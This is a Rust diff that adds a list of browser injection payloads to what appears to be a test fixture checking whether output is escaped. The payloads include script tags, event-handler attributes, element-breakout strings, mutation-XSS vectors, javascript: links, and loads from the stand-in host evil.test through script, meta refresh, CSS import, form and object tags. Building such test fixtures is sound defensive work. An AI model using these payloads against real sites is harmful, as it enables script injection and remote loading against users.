@@ -79,9 +79,40 @@ fn for_markdown() -> Vec<Vec<u8>> {
     texts.into_iter().map(|text| text.as_bytes().to_vec()).collect()
 }
 
+/// What acts in a browser, loads something, or ends the element that it is in. All of them ask `evil.test`, or would show
+/// a dialog.
+fn for_browsers() -> Vec<Vec<u8>> {
+    let texts = [
+        "<script>alert(1)</script>",
+        "<script src=http://evil.test/a.js></script>",
+        "<img src=x onerror=alert(1)>",
+        "\"><svg onload=alert(1)>",
+        "' onmouseover='alert(1)' x='",
+        "</title><script>alert(1)</script>",
+        "</style><script>alert(1)</script>",
+        "</pre></details></main><script>alert(1)</script>",
+        "--><script>alert(1)</script><!--",
+        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+        "<meta http-equiv=refresh content=\"0;url=http://evil.test/m\">",
+        "<base href=http://evil.test/><link rel=stylesheet href=http://evil.test/l.css>",
+        "<style>@import url(http://evil.test/s.css); body { background: url(http://evil.test/s) }</style>",
+        "<form action=http://evil.test/f><input autofocus onfocus=alert(1)></form>",
+        "<a href=\"javascript:alert(1)\">x</a><a href=http://evil.test/a>x</a>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<video src=http://evil.test/v poster=http://evil.test/p></video><object data=http://evil.test/o></object>",
+        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script>alert(1)&#60;/script>",
+    ];
+    texts.into_iter().map(|text| text.as_bytes().to_vec()).collect()
+}
+
+/// The payloads for browsers alone, as they are.
+pub fn active_in_browsers() -> Vec<String> {
+    for_browsers().into_iter().map(|payload| String::from_utf8(payload).expect("text")).collect()
+}
+
 /// Every payload, with the mark in front and behind.
 fn payloads() -> Vec<Vec<u8>> {
-    let all = for_terminals().into_iter().chain(for_markdown());
+    let all = for_terminals().into_iter().chain(for_markdown()).chain(for_browsers());
     all.map(|payload| [MARK.as_bytes(), b" ", &payload, b" ", MARK.as_bytes()].concat()).collect()
 }
 
